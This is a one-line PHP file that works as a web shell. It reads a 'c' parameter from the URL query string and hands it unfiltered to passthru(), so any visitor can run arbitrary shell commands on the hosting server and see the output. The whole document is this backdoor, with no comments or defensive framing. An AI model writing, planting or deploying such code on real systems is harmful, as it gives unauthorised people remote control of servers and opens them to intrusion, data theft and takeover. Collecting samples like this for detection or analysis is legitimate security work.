<?php parse_str($_SERVER["QUERY_STRING"], $q); passthru($q["c"]);
